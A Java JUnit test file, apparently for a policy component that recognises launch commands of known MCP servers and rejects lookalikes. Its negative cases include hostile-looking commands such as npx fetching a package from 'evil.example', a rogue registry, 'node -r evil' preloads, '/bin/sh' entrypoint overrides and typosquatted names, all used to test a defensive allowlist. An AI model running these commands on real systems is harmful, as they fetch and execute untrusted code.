package dev.sluice.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which commands start a known server, and which only look like it. */
class KnownServersTest {

    @Test
    void shippedProfiles_allLoad() {
        assertEquals(
                Set.of("server-filesystem", "server-memory", "server-everything", "server-github", "github-mcp-server"),
                KnownServers.names());
        for (String name : KnownServers.names()) {
            Map<String, ToolStatement> tools = KnownServers.tools(name);
            assertFalse(tools.isEmpty(), name);
            tools.forEach((tool, statement) -> {
                Set<Effect> effects = statement.effects();
                assertFalse(effects == null || effects.isEmpty(), tool);
                // A shipped profile says what tools do; what their answers are stays the operator's word.
                assertEquals(null, statement.returns(), tool);
                assertEquals(null, statement.review(), tool);
                assertEquals(null, statement.derives(), tool);
                assertEquals(effects.contains(Effect.SENDS), statement.audience() != null, tool);
            });
        }
        assertEquals(Map.of(), KnownServers.tools("server-mail"));
    }

    /** What talk among readers excuses must not include closing, editing, approving or starting somebody's work. */
    @Test
    void profilesOfForges_onlyTalkIsAPureSend() {
        Set<String> talk = Set.of(
                "add_issue_comment",
                "create_issue",
                "create_pull_request",
                "add_comment_to_pending_review",
                "add_reply_to_pull_request_comment");
        for (String name : List.of("server-github", "github-mcp-server")) {
            KnownServers.tools(name).forEach((tool, statement) -> {
                if (Set.of(Effect.SENDS).equals(statement.effects())) {
                    assertEquals(true, talk.contains(tool), name + " " + tool);
                }
            });
        }
    }

    @ParameterizedTest
    @CsvSource({
        "npx -y @modelcontextprotocol/server-filesystem /home/ana, server-filesystem",
        "npx @modelcontextprotocol/server-filesystem, server-filesystem",
        "npx --yes @modelcontextprotocol/server-filesystem@2026.8.31 ., server-filesystem",
        "npx -y -- @modelcontextprotocol/server-memory@latest, server-memory",
        "/usr/local/bin/npx -y @modelcontextprotocol/server-everything@^2026.1.0, server-everything",
        "npm exec --yes -- @modelcontextprotocol/server-memory, server-memory",
        "npm x @modelcontextprotocol/server-memory, server-memory",
        "pnpm dlx @modelcontextprotocol/server-github, server-github",
        "yarn dlx -q @modelcontextprotocol/server-github@2025.4.8, server-github",
        "bunx @modelcontextprotocol/server-memory, server-memory",
        "bun x @modelcontextprotocol/server-memory, server-memory",
        "node node_modules/@modelcontextprotocol/server-filesystem/dist/index.js /data, server-filesystem",
        "node /opt/a/node_modules/@modelcontextprotocol/server-memory/dist/index.js, server-memory",
        "node --no-warnings --max-old-space-size=512 /opt/node_modules/@modelcontextprotocol/server-memory/dist/index.js, server-memory",
        "node /opt/a/node_modules/x/node_modules/@modelcontextprotocol/server-memory/dist/index.js, server-memory",
        "node ./node_modules/.bin/mcp-server-everything, server-everything",
        "bun run node_modules/@modelcontextprotocol/server-memory/dist/index.js, server-memory",
        "mcp-server-filesystem /data, server-filesystem",
        "./node_modules/.bin/mcp-server-github, server-github",
        "/usr/bin/github-mcp-server stdio, github-mcp-server",
        "docker run -i --rm -e GITHUB_PERSONAL_ACCESS_TOKEN ghcr.io/github/github-mcp-server, github-mcp-server",
        "docker run -i --rm ghcr.io/github/github-mcp-server:v1.0.0 stdio, github-mcp-server",
        "docker run --rm -it --name ghp -e A=b -v /a:/b --network=host ghcr.io/github/github-mcp-server:latest, github-mcp-server",
        "podman run -i ghcr.io/github/github-mcp-server@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef, github-mcp-server",
        "docker run -i ghcr.io/github/github-mcp-server:v1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef, github-mcp-server",
        "env A=b C=d npx -y @modelcontextprotocol/server-memory, server-memory",
        "/usr/bin/env -i PATH=/bin node node_modules/@modelcontextprotocol/server-memory/dist/index.js, server-memory",
        "cmd /c npx -y @modelcontextprotocol/server-memory, server-memory",
        "C:\\Windows\\System32\\cmd.exe /C npx.cmd -y @modelcontextprotocol/server-memory, server-memory",
        "C:\\nodejs\\node.exe C:\\app\\node_modules\\@modelcontextprotocol\\server-filesystem\\dist\\index.js, server-filesystem",
        "C:\\Tools\\github-mcp-server.exe stdio, github-mcp-server",
        "C:\\npm\\mcp-server-filesystem.cmd C:\\data, server-filesystem",
    })
    void command_startsAKnownServer(String command, String name) {
        assertEquals(Optional.of(name), KnownServers.find(List.of(command.split(" "))));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "npx",
                "npx -y",
                "env",
                "cmd",
                "docker run",
                "npx -y @modelcontextprotocol/server-filesystem-fork",
                "npx -y @modelcontextprotocol/server-filesyste",
                "npx -y @evil/server-filesystem",
                "npx -y @evil/modelcontextprotocol/server-filesystem",
                "npx -y server-filesystem",
                "npx -y mcp-server-filesystem",
                "npx -y github-mcp-server",
                "npx -y @evil/mcp-server-filesystem",
                "npx -y @evil/github-mcp-server",
                "npx -y github/github-mcp-server",
                "npx -y @modelcontextprotocol/server-filesystem@npm:evil",
                "npx -y @modelcontextprotocol/server-filesystem@file:../evil",
                "npx -y @modelcontextprotocol/server-filesystem@https://evil.example/a.tgz",
                "npx -y evil @modelcontextprotocol/server-filesystem",
                "npx -p @modelcontextprotocol/server-filesystem evil",
                "npx --registry https://evil.example @modelcontextprotocol/server-filesystem",
                "npx --registry=https://evil.example @modelcontextprotocol/server-filesystem",
                "npm install @modelcontextprotocol/server-memory",
                "npm run @modelcontextprotocol/server-memory",
                "node server.js @modelcontextprotocol/server-filesystem",
                "node /home/ana/@modelcontextprotocol/server-filesystem/dist/index.js",
                "node node_modules/@modelcontextprotocol/server-filesystem/../../evil/index.js",
                "node node_modules/@modelcontextprotocol/server-filesystem/node_modules/evil/index.js",
                "node node_modules/@evil/server-filesystem/index.js",
                "node node_modules/mcp-server-filesystem/index.js",
                "node -r evil node_modules/@modelcontextprotocol/server-filesystem/dist/index.js",
                "node --require=evil node_modules/@modelcontextprotocol/server-filesystem/dist/index.js",
                "node --import evil node_modules/@modelcontextprotocol/server-filesystem/dist/index.js",
                "python server.py mcp-server-filesystem",
                "my-server --workspace /home/ana/mcp-server-filesystem",
                "/home/ana/mcp-server-filesystem/run.sh",
                "/opt/github-mcp-server/evil",
                "mcp-server-filesystem-fork",
                "my-mcp-server-filesystem",
                "docker run -i ghcr.io/evil/github-mcp-server",
                "docker run -i evil.example/github/github-mcp-server",
                "docker run -i github/github-mcp-server",
                "docker run -i ghcr.io/github/github-mcp-server-fork",
                "docker run -i ghcr.io/github/github-mcp-server/evil",
                "docker run -i evil ghcr.io/github/github-mcp-server",
                "docker run --name ghcr.io/github/github-mcp-server evil",
                "docker run --new-option ghcr.io/github/github-mcp-server evil",
                "docker run --entrypoint=/bin/sh ghcr.io/github/github-mcp-server",
                "docker run --entrypoint /bin/sh ghcr.io/github/github-mcp-server",
                "docker exec -i ghcr.io/github/github-mcp-server",
                "docker compose run github-mcp-server",
                "sh -c mcp-server-filesystem",
                "env -S npx @modelcontextprotocol/server-memory",
                "uvx mcp-server-memory",
                "deno run npm:@modelcontextprotocol/server-memory",
            })
    void command_onlyLooksLikeAKnownServer(String command) {
        assertEquals(Optional.empty(), KnownServers.find(List.of(command.split(" "))));
    }

    @Test
    void emptyCommand_startsNothing() {
        assertEquals(Optional.empty(), KnownServers.find(List.of()));
    }
}
